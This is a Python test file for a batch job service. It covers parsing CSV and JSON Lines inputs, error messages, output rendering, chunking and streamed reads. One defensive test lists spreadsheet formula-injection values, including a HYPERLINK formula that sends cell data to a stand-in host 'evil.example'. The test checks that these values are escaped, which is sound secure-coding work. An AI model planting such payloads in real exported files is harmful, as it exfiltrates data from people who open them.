"""Job input files (CSV, JSON Lines) and their errors, output files, and chunking."""

from __future__ import annotations

import csv
import io
import itertools
import json

import pytest

from services.jobs.errors import JobFailure
from services.jobs.inputs import (
    READ_BLOCK_BYTES,
    InputLimits,
    InputRow,
    format_from_name,
    read_rows,
)
from services.jobs.outputs import OutputFormat, OutputRenderer, output_format_of, result_rows
from services.jobs.runner import chunk_spans, pending_chunks
from services.jobs.store import InputFormat, ItemResult

LIMITS = InputLimits(max_rows=5, max_text_chars=12)


def parse_input(data: bytes, file_format: InputFormat, limits: InputLimits) -> list[InputRow]:
    """Every row of an input file held in memory, as the worker reads it block by block."""
    return list(read_rows(io.BytesIO(data).read, file_format, limits))


def render_output(results: list[ItemResult], file_format: OutputFormat) -> bytes:
    """The whole output file, ids in CSV when any row has one, as the worker writes it."""
    renderer = OutputRenderer(file_format, with_ids=any("id" in result for result in results))
    return renderer.header() + renderer.rows(results)


def test_csv_rows_keep_order_and_ids_and_ignore_other_columns() -> None:
    data = b'\xef\xbb\xbfextra,text,id\nx,"hello, world",a1\ny,"two\nlines",a2\n\nz,,a3\n'

    rows = parse_input(data, "csv", LIMITS)

    assert rows == [
        InputRow("hello, world", "a1"),
        InputRow("two\nlines", "a2"),
        InputRow("", "a3"),
    ]


def test_csv_without_an_id_column_gives_rows_without_ids() -> None:
    assert parse_input(b"text\nfine\n", "csv", LIMITS) == [InputRow("fine")]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"title,body\na,b\n", "CSV has no 'text' column (columns: title, body)"),
        (b"", "the CSV input is empty: it has no header row"),
        (b"id,text\n1,ok\n2\n", "input row 2: it has 1 fields and no value in the 'text' column"),
        (b"text\nok\n\xff\xfe\n", "input line 3: not valid UTF-8 (byte 8 of the file)"),
        (b"text\n" + b"x" * 13 + b"\n", "input row 1: the text has 13 characters; the limit is 12"),
        (b"text\n" + b"a\n" * 6, "the input has more than 5 rows (MTC_JOBS_MAX_INPUT_ROWS)"),
        (b'text\n"unclosed\n', "input line 2: malformed CSV"),
    ],
)
def test_csv_errors_name_the_problem_and_where(data: bytes, reason: str) -> None:
    with pytest.raises(JobFailure) as failure:
        parse_input(data, "csv", LIMITS)

    assert str(failure.value).startswith(reason)


def test_json_lines_rows_keep_ids_of_any_scalar_type() -> None:
    data = b'{"text": "a", "id": 7}\n\n{"text": "b", "id": "x", "more": 1}\n{"text": "c"}'

    assert parse_input(data, "jsonl", LIMITS) == [
        InputRow("a", 7),
        InputRow("b", "x"),
        InputRow("c"),
    ]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'{"text": "a"}\n{"text": 3}\n', "input line 2: no 'text' string field"),
        (b'{"text": "a"}\n[1]\n', "input line 2: not a JSON object"),
        (b'{"text": "a"\n', "input line 1: not valid JSON"),
        (b'{"text": "a", "id": [1]}\n', "input line 1: 'id' must be a string or a number"),
        (b'{"text": "a"}\n{"text": "\xc3("}\n', "input line 2: not valid UTF-8"),
        (b'{"text": "' + b"y" * 13 + b'"}\n', "input row 1: the text has 13 characters"),
        (b'{"text": "ok"}\n{"text": "\\ud800"}\n', "input row 2: the text is not valid Unicode"),
    ],
)
def test_json_lines_errors_name_the_line(data: bytes, reason: str) -> None:
    with pytest.raises(JobFailure) as failure:
        parse_input(data, "jsonl", LIMITS)

    assert str(failure.value).startswith(reason)


@pytest.mark.parametrize(
    ("key", "expected"),
    [("a/b.csv", "csv"), ("a/B.CSV", "csv"), ("x.jsonl", "jsonl"), ("x.ndjson", "jsonl")],
)
def test_the_input_format_comes_from_the_extension(key: str, expected: str) -> None:
    assert format_from_name(key) == expected


def test_unknown_extensions_have_no_format() -> None:
    assert format_from_name("x.json") is None
    assert output_format_of("x.ndjson") is None
    assert output_format_of("out/x.CSV") == "csv"


SCORES = [[{"label": "POSITIVE", "score": 0.8}, {"label": "NEGATIVE", "score": 0.2}]] * 2


def test_result_rows_carry_index_id_best_label_and_every_score() -> None:
    rows = [InputRow("a", "id-1"), InputRow("b")]

    results = result_rows(10, rows, SCORES)

    assert results == [
        {"index": 10, "id": "id-1", "label": "POSITIVE", "score": 0.8, "scores": SCORES[0]},
        {"index": 11, "label": "POSITIVE", "score": 0.8, "scores": SCORES[1]},
    ]


def test_result_rows_refuse_a_prediction_count_that_does_not_match() -> None:
    with pytest.raises(ValueError, match="1 predictions for 2 texts"):
        result_rows(0, [InputRow("a"), InputRow("b")], SCORES[:1])


def test_json_lines_output_is_one_object_per_row() -> None:
    results = result_rows(0, [InputRow("a", "é"), InputRow("b", "x")], SCORES)

    body = render_output(results, "jsonl")

    assert [json.loads(line) for line in body.decode().splitlines()] == results
    assert "é" in body.decode()


def test_csv_output_has_an_id_column_only_when_ids_were_given() -> None:
    with_ids = render_output(result_rows(0, [InputRow("a", "k,1"), InputRow("b")], SCORES), "csv")
    without_ids = render_output(result_rows(0, [InputRow("a")], SCORES[:1]), "csv")

    parsed = list(csv.DictReader(io.StringIO(with_ids.decode())))
    assert list(parsed[0]) == ["index", "id", "label", "score", "scores"]
    assert [(row["index"], row["id"]) for row in parsed] == [("0", "k,1"), ("1", "")]
    assert json.loads(parsed[0]["scores"]) == SCORES[0]
    assert without_ids.decode().splitlines()[0] == "index,label,score,scores"


FORMULA_IDS = ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "+1+2", "-2+3", "@SUM(A1)"]
FORMULA_IDS += ["\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
    rows = [InputRow("t", row_id) for row_id in FORMULA_IDS] + [
        InputRow("t", -5),
        InputRow("t", 2.5),
    ]
    scores = [SCORES[0]] * len(rows)
    labels = [[{"label": "=cmd", "score": 0.9}, {"label": "ok", "score": 0.1}]]

    body = render_output(result_rows(0, rows, scores), "csv")
    label_body = render_output(result_rows(0, [InputRow("t")], labels), "csv")

    parsed = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert [row["id"] for row in parsed] == ["'" + row_id for row_id in FORMULA_IDS] + ["-5", "2.5"]
    assert all(not row["id"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in parsed[:-2])
    assert next(csv.DictReader(io.StringIO(label_body.decode())))["label"] == "'=cmd"


def test_json_lines_keep_formula_like_ids_as_they_were() -> None:
    results = result_rows(0, [InputRow("t", FORMULA_IDS[0])], SCORES[:1])

    assert json.loads(render_output(results, "jsonl"))["id"] == FORMULA_IDS[0]


def test_chunks_cover_every_item_once_in_order() -> None:
    spans = chunk_spans(130, 64)

    assert spans == [range(0, 64), range(64, 128), range(128, 130)]
    assert chunk_spans(0, 64) == []


def test_a_resumed_job_computes_only_the_chunks_not_stored() -> None:
    spans = chunk_spans(300, 64)

    assert pending_chunks(spans, set()) == [0, 1, 2, 3, 4]
    assert pending_chunks(spans, {0, 2, 4}) == [1, 3]
    assert pending_chunks(spans, {0, 1, 2, 3, 4}) == []


class CountingStream:
    """A file served by `read(n)`, counting the bytes handed out."""

    def __init__(self, data: bytes) -> None:
        self.data = io.BytesIO(data)
        self.bytes_read = 0

    def read(self, size: int) -> bytes:
        block = self.data.read(size)
        self.bytes_read += len(block)
        return block


def test_a_file_is_read_as_a_stream_a_block_at_a_time() -> None:
    data = ("text\n" + "fine\n" * 1_000_000).encode()
    stream = CountingStream(data)
    limits = InputLimits(max_rows=2_000_000, max_text_chars=12)

    rows = read_rows(stream.read, "csv", limits)
    first = next(rows)

    assert first == InputRow("fine")
    assert stream.bytes_read <= READ_BLOCK_BYTES < len(data)
    assert sum(1 for _ in rows) == 999_999
    assert stream.bytes_read == len(data)


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_a_line_longer_than_any_valid_row_fails_before_it_is_held_whole(
    file_format: InputFormat,
) -> None:
    header = [b"text\n"] if file_format == "csv" else []
    endless = itertools.chain(header, itertools.repeat(b"a" * 65536))
    counted = 0

    def read(size: int) -> bytes:
        nonlocal counted
        block = next(endless)
        counted += len(block)
        return block

    with pytest.raises(
        JobFailure, match=r"input line [12] is longer than .* MTC_JOBS_MAX_TEXT_CHARS"
    ):
        list(read_rows(read, file_format, LIMITS))
    assert counted <= LIMITS.max_line_bytes + 2 * 65536


def test_csv_lines_may_end_with_a_lone_carriage_return() -> None:
    assert parse_input(b"id,text\r1,fine\r2,good\r", "csv", LIMITS) == [
        InputRow("fine", "1"),
        InputRow("good", "2"),
    ]


def test_an_output_rendered_chunk_by_chunk_is_the_whole_output() -> None:
    rows = [InputRow("a", "=1"), InputRow("b"), InputRow("c", 7)]
    results = result_rows(0, rows, [SCORES[0]] * 3)
    for file_format in ("csv", "jsonl"):
        renderer = OutputRenderer(file_format, with_ids=True)
        pieces = renderer.header() + renderer.rows(results[:2]) + renderer.rows(results[2:])
        assert pieces == render_output(results, file_format)
